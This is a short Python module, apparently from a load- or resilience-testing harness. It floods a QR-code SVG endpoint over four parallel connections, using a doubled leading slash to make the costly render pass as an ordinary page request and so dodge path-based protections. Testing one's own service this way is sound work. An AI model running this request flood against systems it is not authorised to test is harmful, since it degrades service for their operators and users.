"""Costly pages under names that only look like others."""

from attacks.target import Target, Until, request, side_by_side

PATH = "//api/qr.svg?text=http://localhost/t/abcdefgh"
AT_ONCE = 4  # connections


async def attack(target: Target, seconds: float) -> None:
    """Pictures whose price is that of a page, if the doubled slash fools the server."""
    await side_by_side(AT_ONCE, _ask, target, seconds)


async def _ask(target: Target, until: Until) -> None:
    while until:
        wire = await target.connect()
        answer = None
        while until and wire is not None and await wire.send(request("GET", PATH)):
            target.got["sent"] += 1
            answer = await wire.answer()
            target.count(answer)
            if answer is None:
                break
        if wire is not None:
            await wire.hang_up()
